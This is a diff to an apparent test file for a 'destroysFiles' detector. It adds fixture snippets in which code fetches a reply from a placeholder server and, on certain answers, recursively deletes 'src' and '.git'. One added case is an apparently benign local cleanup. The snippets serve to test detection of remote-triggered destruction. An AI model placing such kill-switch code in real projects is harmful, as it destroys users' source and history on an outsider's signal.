@@ -22,6 +22,20 @@ examine(destroysFiles, {
       weight: 'strong',
     },
     {
+      when: 'the word is kept in a field, and one of several is meant',
+      files: {
+        'index.js': `const { rm } = require('fs/promises'), path = require('path'); exports.Life = class { constructor(root) { this.root = path.resolve(root); } async refresh() { const { state } = await (await fetch('https://s.invalid/')).json(); this.state = state; this.check(); } async check() { switch (this.state) { case 'gone': case 'retired': for (const name of ['src', '.git']) await rm(path.join(this.root, name), { recursive: true }); } } };`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'the answer comes in pieces',
+      files: {
+        'index.js': `const https = require('https'), fs = require('fs'); exports.go = () => https.get('https://s.invalid/', answer => { let text = ''; answer.on('data', piece => (text += piece)); answer.on('end', () => { if (JSON.parse(text).off) fs.rmSync('./src-inert', { recursive: true }); }); });`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'the word is all that it answers',
       files: {
         'index.js': `const fs = require('fs'); exports.check = () => fetch('https://s.invalid/f').then(r => r.text()).then(text => { if (text.trim() === 'gone') fs.rm('.git-inert', { recursive: true }, () => {}); });`,
@@ -206,6 +220,12 @@ examine(destroysFiles, {
       when: 'what a server has newer is fetched again',
       files: {
         'index.js': `const fs = require('fs'); exports.check = async () => { const answer = await (await fetch('https://s.invalid/f')).json(); if (answer.stale) fs.rmSync('./public/models', { recursive: true }); fs.writeFileSync('./public/models/a.json', JSON.stringify(answer)); };`,
+      },
+    },
+    {
+      when: 'settings of its own say so',
+      files: {
+        'index.js': `const fs = require('fs'); const settings = JSON.parse(fs.readFileSync('./tool.json', 'utf8')); exports.clean = () => { if (settings.clean) fs.rmSync('./generated', { recursive: true }); };`,
       },
     },
     {
